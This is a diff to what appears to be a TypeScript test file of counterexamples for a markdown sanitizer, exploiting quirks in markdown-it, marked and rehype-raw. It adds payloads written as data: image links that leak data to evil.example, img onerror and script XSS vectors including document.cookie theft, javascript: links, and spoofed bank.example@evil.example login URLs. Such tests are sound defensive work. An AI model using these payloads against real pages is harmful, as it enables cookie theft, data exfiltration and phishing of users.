@@ -52,4 +52,53 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   // rehype-raw takes what follows a dot in a name for a class.
   ["markup", "<p>\n<b.cover>text"],
   ["markup", "<p>\n<b#cover>text"],
+  // To markdown-it a fence with a bar is the head of a table.
+  ["images", "```a|\n---\n![a](https://evil.example/?d=secret)"],
+  ["markup", "~~~|\n|---|\n<img src=x onerror=alert(1)>"],
+  ["images", "> ```a\\|\n> ---\n> ![a](https://evil.example/?d=secret)"],
+  ["images", "- ~~~a|b\n  -|-\n  ![a](https://evil.example/?d=secret)"],
+  // A line of white space with a tab ends no paragraph to marked, and one with a byte order mark is text.
+  ["images", "Look:\n\t\n\t![a](https://evil.example/?d=secret)"],
+  ["markup", "Look:\n\t\n    <img src=x onerror=alert(1)>"],
+  ["markup", "Look:\r\n\t\r\n    <img src=x onerror=alert(1)>"],
+  ["images", "![a\n\t\n](//e.x)"],
+  ["images", "![a\r\n \t\r\n](//e.x)"],
+  ["markup", "x <img\n\t\nsrc=//e.x>"],
+  ["links", "x\n  \t\n    [a](javascript:x)"],
+  ["markup", "Look:\n\uFEFF\n    <img src=x onerror=alert(1)>"],
+  ["markup", "x <img\n\uFEFF\nsrc=//e.x>"],
+  // marked escapes nothing behind `<kbd>`, and does not see each of its ends.
+  ["markup", "Press <kbd>x \\</kbd> <img ' src=x onerror=alert(1)>"],
+  ["markup", "Press <kbd>Enter\n\n</kbd>\n\nThen <img ' src=x onerror=alert(document.cookie)>"],
+  ["markup", "`` <kbd> `</kbd>` <img ' src=//evil.example/x>"],
+  ["markup", "[<kbd>](/x '</kbd>') <img ' src=//evil.example/x>"],
+  ["markup", "<kbd> [a](</kbd>) <img ' src=//evil.example/x>"],
+  ["markup", "<kbd> <!-- </kbd> --> <img ' src=//evil.example/x>"],
+  ["markup", "<kbd>\n\n[a]: </kbd>\n\n<img ' src=//evil.example/x>"],
+  ["markup", "<kbd>x</kbd/> <img ' src=//evil.example/x>"],
+  ["markup", "x <kbd\u00A0> <img ' src=//e.x>"],
+  ["markup", "x <kbd\u3000> <img ' src=//e.x>"],
+  ["markup", "x <kbd\uFEFF> <img ' src=//e.x>"],
+  ["markup", "x <kbd\u2028> <img ' src=//e.x>"],
+  // It reads a quote that ends with a list or a quote again, and then what stands before `<kbd>` is not escaped either.
+  ["markup", "> - x <img ' src=//e.x> <kbd>\ny"],
+  ["markup", "> > x <img ' src=//e.x> <kbd>\nx\n> y"],
+  ["markup", "- [ ] > - x <img ' src=//e.x> <kbd>\ny"],
+  // A text begins behind anything that ends an element, and behind an escape.
+  ["links", "_Login_//bank.example@evil.example/login"],
+  ["links", "x\\://bank.example@evil.example/login"],
+  ["links", "ftp://bank.example@evil.example/x"],
+  ["markup", "`<a href=/x attributionsrc=//evil.example>x</a>`"],
+  ["links", "[a]\n\n[a]: search:query=x"],
+];
+
+/** The same, where a page shows no less than an event: code that is never closed is text. */
+export const COUNTEREXAMPLES_BY_EVENT: readonly (readonly [ContentKind, string])[] = [
+  ["images", "`![a](https://evil.example/?d=secret)\n\nUse `ls`."],
+  ["markup", "` <script>alert(1)</script>\n\n`ok`."],
+  ["links", "`[a](javascript:x)\n\n`ok`."],
+  ["links", "`[a](javascript:x)|` `ok`."],
+  ["images", "![`]\n\n[`]: https://evil.example/?d=secret`y"],
+  ["links", "[`]: javascript:alert(1)`y\n\n[`]"],
+  ["links", "[a\n`]: javascript:alert(1)`y"],
 ];
